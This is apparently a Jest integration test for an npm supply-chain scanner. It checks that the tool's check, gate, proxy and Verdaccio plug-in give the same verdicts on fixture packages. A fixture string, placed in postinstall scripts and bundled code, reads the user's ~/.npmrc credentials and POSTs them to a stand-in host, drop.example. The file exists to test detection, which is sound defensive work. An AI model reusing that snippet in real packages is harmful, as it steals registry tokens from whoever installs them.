/** One engine behind every door: the same packages are held to the same verdicts, for the same reasons, wherever somebody asks. */

import { spawnSync } from 'node:child_process';
import { createHash, sign } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { run as check } from '../../src/commands/check.ts';
import { run as gate } from '../../src/commands/gate.ts';
import { benchFor } from '../../src/commands/guard.ts';
import { projectPolicy } from '../../src/commands/policy.ts';
import type { ExpressRequest } from '../../src/proxy/verdaccio.ts';
import DepwardPlugin from '../../src/verdaccio.ts';
import { aProxy } from '../helpers/a-proxy.ts';
import { aPackage } from '../helpers/a-tarball.ts';
import { anIo } from '../helpers/an-io.ts';
import { type FixtureRegistry, publish, startFixtureRegistry } from '../helpers/fixture-registry.ts';
import { aKeyPair, anAuthority } from '../helpers/sigstore-authority.ts';

const steal =
  'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });\n';
/** Without the rule that withholds scripts unread: behind the proxy what a document convicts of is not unpacked any more. */
const policy = JSON.stringify({ rules: { 'install-script-added': 'off' } });
const plain = { 'index.js': 'module.exports = 1;\n' };
const { secret, spki } = aKeyPair();
const keyid = 'SHA256:registry';

interface Told {
  readonly manifest?: Readonly<Record<string, unknown>>;
  readonly files?: Readonly<Record<string, string>>;
  /** What only the tarball's own manifest says. */
  readonly packed?: Readonly<Record<string, unknown>>;
  readonly dist?: Readonly<Record<string, unknown>>;
  readonly at?: string;
}

/** Stories of two releases: what the second one is, beside an ordinary first one. */
const stories: Readonly<Record<string, Told & { readonly wanted: string; readonly ruleId?: string }>> = {
  'fx-ordinary': { wanted: 'allow' },
  'fx-young': { at: new Date(Date.now() - 3_600_000).toISOString(), wanted: 'block', ruleId: 'release-age' },
  'fx-scripted': {
    manifest: { scripts: { postinstall: 'node setup.js' } },
    files: { 'setup.js': steal },
    wanted: 'block',
    ruleId: 'install-code-risk',
  },
  'fx-hidden': { packed: { scripts: { postinstall: 'node setup.js' } }, files: { 'setup.js': '' }, wanted: 'block', ruleId: 'manifest-confusion' },
  'fx-calling': {
    manifest: { scripts: { postinstall: 'fx-tool setup' }, dependencies: { 'fx-tool-kit': '^1.0.0' } },
    wanted: 'block',
    ruleId: 'install-code-risk',
  },
  'fx-bundling': {
    manifest: { bundleDependencies: ['fx-ordinary'] },
    files: {
      'node_modules/fx-ordinary/package.json': '{"name":"fx-ordinary","version":"1.0.1"}',
      'node_modules/fx-ordinary/index.js': steal,
    },
    wanted: 'warn',
    ruleId: 'bundled-code-differs',
  },
  'fx-forged': {
    dist: { signatures: [{ keyid, sig: sign('sha256', Buffer.from('fx-other@1.0.1:x'), secret).toString('base64') }] },
    wanted: 'block',
    ruleId: 'registry-signature-false',
  },
  // By an authority that nobody here knows: asked for, and neither held against it nor for it.
  'fx-attested': {
    dist: { attestations: { url: 'https://x.example/a', provenance: { predicateType: 'https://slsa.dev/provenance/v1' } } },
    wanted: 'allow',
  },
};

let registry: FixtureRegistry;
let folder: string;
const integrities = new Map<string, string>();

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'depward-doors-'));
  writeFileSync(join(folder, 'depward.config.json'), policy);
  registry = await startFixtureRegistry();
  for (const [name, told] of Object.entries(stories)) tell(name, told);
  tell('fx-tool-kit', { manifest: { bin: { 'fx-tool': 'bin.js' } }, files: { 'bin.js': steal } });
  const keys = [{ keyid, keytype: 'ecdsa-sha2-nistp256', scheme: 'ecdsa-sha2-nistp256', key: spki.toString('base64'), expires: null }];
  registry.addBytes('/-/npm/v1/keys', JSON.stringify({ keys }));
  const bundle = anAuthority().bundle({ name: 'fx-attested', version: '1.0.1', integrity: integrities.get('fx-attested') ?? '' });
  registry.addBytes('/-/npm/v1/attestations/fx-attested@1.0.1', JSON.stringify({ attestations: [{ bundle }] }));
});
afterAll(async () => {
  await registry.close();
  rmSync(folder, { recursive: true, force: true, maxRetries: 3 });
});

function tell(name: string, told: Told): void {
  const releases = [
    { version: '1.0.0', at: '2020-01-01T00:00:00Z', told: {} as Told },
    { version: '1.0.1', at: told.at ?? '2020-06-01T00:00:00Z', told },
  ].map(({ version, at, told: { manifest = {}, files = {}, packed = {}, dist = {} } }) => {
    const bytes = aPackage({ name, version, ...manifest, ...packed }, { ...plain, ...files });
    const integrity = `sha512-${createHash('sha512').update(bytes).digest('base64')}`;
    registry.addTarball(name, version, bytes);
    if (version === '1.0.1') integrities.set(name, integrity);
    const sig = sign('sha256', Buffer.from(`${name}@${version}:${integrity}`), secret).toString('base64');
    return {
      version,
      at,
      more: { ...manifest, dist: { integrity, signatures: [{ keyid, sig }], tarball: registry.tarballUrl(name, version), ...dist } },
    };
  });
  registry.add(publish(name, releases, { maintainers: [{ name: `${name}-owner`, email: `${name}@mail.example` }] }));
}

/** Verdict and reasons by package. */
type Verdicts = Map<string, string>;

function said(action: unknown, because: unknown): string {
  const rules = (Array.isArray(because) ? because : []).map((reason) => `${reason.action} ${reason.ruleId}`);
  return [String(action), ...new Set(rules)].sort().join(', ');
}

function ofReport(text: string): Verdicts {
  const { verdicts } = JSON.parse(text);
  return new Map(
    verdicts.flatMap((verdict: { subject: { kind: string; name: string }; action: string; because: unknown }) =>
      verdict.subject.kind === 'package' ? [[verdict.subject.name, said(verdict.action, verdict.because)]] : [],
    ),
  );
}

function ioIn(place: string, git = false) {
  const cwd = join(folder, place);
  mkdirSync(cwd, { recursive: true });
  writeFileSync(join(cwd, 'depward.config.json'), policy);
  const env = {
    PATH: process.env['PATH'] ?? '',
    HOME: folder,
    DEPWARD_CACHE: join(folder, `${place}-cache`),
    npm_config_registry: registry.url,
    npm_config_userconfig: join(folder, 'none'),
    npm_config_globalconfig: join(folder, 'no-global'),
    ...(git && { GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_SYSTEM: '/dev/null' }),
  };
  return { cwd, ...anIo({ cwd, env, now: Date.now }) };
}

async function throughCheck(): Promise<Verdicts> {
  const { io, cwd, out } = ioIn('check');
  writeFileSync(join(cwd, 'package.json'), '{"name":"doors","version":"1.0.0"}');
  await check(
    Object.keys(stories).map((name) => `${name}@1.0.1`),
    { format: ['json'] },
    io,
  );
  return ofReport(out());
}

async function throughGate(): Promise<Verdicts> {
  const { io, cwd, out } = ioIn('gate', true);
  const git = (...words: string[]) => {
    const { status, stderr } = spawnSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@mail.example', ...words], { cwd, encoding: 'utf8' });
    if (status !== 0) throw new Error(stderr);
  };
  const write = (names: readonly string[]) => {
    const dependencies = Object.fromEntries(names.map((name) => [name, '1.0.1']));
    const entries = names.map((name) => [
      `node_modules/${name}`,
      { version: '1.0.1', resolved: registry.tarballUrl(name, '1.0.1'), integrity: integrities.get(name) },
    ]);
    const root = { name: 'doors', version: '1.0.0', dependencies };
    writeFileSync(join(cwd, 'package.json'), JSON.stringify(root));
    writeFileSync(
      join(cwd, 'package-lock.json'),
      JSON.stringify({ name: 'doors', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': root, ...Object.fromEntries(entries) } }),
    );
  };
  git('init', '-q', '-b', 'main');
  write([]);
  git('add', '-A');
  git('commit', '-qm', 'before');
  write([...Object.keys(stories), 'fx-tool-kit']);
  await gate({ base: 'HEAD', head: 'worktree', format: ['json'] }, io);
  return ofReport(out());
}

/** As a client goes about it: document and tarball, then the page that says why. */
async function throughProxy(): Promise<Verdicts> {
  const bench = benchFor(await projectPolicy(folder, undefined), 'proxy', join(folder, 'proxy-cache'));
  const proxy = await aProxy(registry.url, { bench });
  const verdicts: Verdicts = new Map();
  try {
    for (const name of Object.keys(stories)) {
      await (await fetch(`${proxy.url}${name}`)).arrayBuffer();
      const tarball = await fetch(`${proxy.url}${name}/-/${name}-1.0.1.tgz`);
      await tarball.arrayBuffer();
      const { judgements } = (await (await fetch(`${proxy.url}-/depward/why/${name}@1.0.1`)).json()) as {
        judgements: { action: string; because: unknown }[];
      };
      verdicts.set(name, said(judgements[0]?.action, judgements[0]?.because));
      expect([name, tarball.status]).toEqual([name, judgements[0]?.action === 'block' ? 403 : 200]);
    }
  } finally {
    await proxy.close(100);
  }
  return verdicts;
}

/** The plug-in as Verdaccio drives it: the middleware sees the request, the filter the manifest while Verdaccio answers. */
async function throughVerdaccio(): Promise<Verdicts> {
  const plugin = new DepwardPlugin({ uplinks: { npm: { url: registry.url } }, config_path: join(folder, 'config.yaml') });
  let handle: ((request: ExpressRequest, response: ServerResponse, next: () => void) => void) | undefined;
  plugin.register_middlewares({
    use(given) {
      handle = given;
    },
  });
  const server = createServer((request, response) =>
    handle?.(request, response, () => {
      const [, name = '', file = ''] = /^\/([^/]+)\/-\/(.*)$/.exec(request.url ?? '') ?? [];
      fetch(`${registry.url}${name}`)
        .then((answer) => answer.json())
        .then((manifest) => plugin.filter_metadata(manifest as Parameters<typeof plugin.filter_metadata>[0]))
        .then(({ versions }) => {
          const listed = Object.hasOwn(versions, '1.0.1') && file !== '';
          response.writeHead(listed ? 200 : 404).end('{}');
        });
    }),
  );
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const verdicts: Verdicts = new Map();
  try {
    for (const name of Object.keys(stories)) {
      const answer = await fetch(`${url}${name}/-/${name}-1.0.1.tgz`);
      const { depward } = (await answer.json()) as { depward?: { action: string; because: unknown } };
      verdicts.set(name, depward ? said(depward.action, depward.because) : String(answer.status));
    }
  } finally {
    server.closeAllConnections();
    await new Promise((closed) => server.close(closed));
  }
  return verdicts;
}

it('says the same through check, gate, proxy and the Verdaccio plug-in', async () => {
  const [checked, gated, proxied, plugged] = [await throughCheck(), await throughGate(), await throughProxy(), await throughVerdaccio()];
  const table = (verdicts: Verdicts) => Object.fromEntries(Object.keys(stories).map((name) => [name, verdicts.get(name)]));
  expect(
    Object.fromEntries(
      Object.entries(stories).map(([name, { wanted, ruleId }]) => [
        name,
        ruleId === undefined ? wanted : expect.stringContaining(`${wanted} ${ruleId}`),
      ]),
    ),
  ).toEqual(table(checked));
  expect(table(gated)).toEqual(table(checked));
  expect(table(proxied)).toEqual(table(checked));
  // What it lets through it says nothing of.
  expect(table(plugged)).toEqual(
    Object.fromEntries(Object.entries(table(checked)).map(([name, text]) => [name, text?.startsWith('block') ? text : '200'])),
  );
  expect(registry.count('/-/npm/v1/attestations/fx-attested@1.0.1')).toBe(4);
}, 60_000);
